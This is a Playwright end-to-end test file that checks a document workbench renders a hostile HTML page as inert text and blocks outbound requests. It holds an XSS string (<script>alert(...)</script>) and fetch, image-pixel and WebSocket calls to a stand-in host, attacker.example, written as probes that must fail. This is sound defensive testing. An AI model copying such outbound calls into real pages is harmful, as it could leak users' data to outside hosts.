import { copyFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { expect, test } from './fixtures';

test('a hostile page is only words: no request, no script, no dialog', async ({ assay }) => {
  const file = join(assay.folder, 'hostile.html');
  await copyFile(resolve('e2e/documents/fixtures/hostile.html'), file);
  const workbench = await assay.launch();
  const { page, sourceText } = workbench;
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const opened: string[] = [];
  page.context().on('page', (other) => opened.push(other.url()));
  const home = page.url();

  await workbench.takeIn([file]);
  await workbench.openSource('A page that wants out');
  for (const words of [
    'The first honest sentence is kept.',
    "with <script>alert('words')</script> spelt out, is kept as well.",
    'The third honest sentence',
    'An innocent link',
  ])
    await expect(sourceText.region).toContainText(words);
  await expect(
    sourceText.region.locator('script, iframe, img, object, embed, video, audio, form, style'),
  ).toHaveCount(0);

  // Clicked, dragged over and highlighted, it stays what it is.
  for (const link of ['An innocent link', 'another one', 'a third one']) {
    await sourceText.region.getByText(link).click();
    await page.keyboard.press('Escape');
  }
  await sourceText.highlight('The first honest sentence');
  await workbench.saved();

  expect(page.url()).toBe(home);
  expect(opened).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => 'assayWasReached' in window)).toBe(false);
  // That no request left the host and nothing was written to the console is seen to by the fixture.
});

test('the page may not fetch from anywhere else even if it wanted to', async ({ assay }) => {
  assay.expectProblems = true;
  const { page } = await assay.launch();
  const reached: string[] = [];
  await page.context().route(/attacker\.example/, (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  const answers = await page.evaluate(async () => {
    const tried = await Promise.allSettled([
      fetch('https://attacker.example/fetch', { mode: 'no-cors' }),
      new Promise((done, refuse) => {
        const image = new Image();
        image.onload = done;
        image.onerror = () => refuse(new Error('refused'));
        image.src = 'https://attacker.example/pixel.png';
      }),
      new Promise((done, refuse) => {
        const socket = new WebSocket('wss://attacker.example/socket');
        socket.onopen = done;
        socket.onerror = () => refuse(new Error('refused'));
      }),
    ]);
    return tried.map(({ status }) => status);
  });
  expect(answers).toEqual(['rejected', 'rejected', 'rejected']);
  expect(reached).toEqual([]);
});
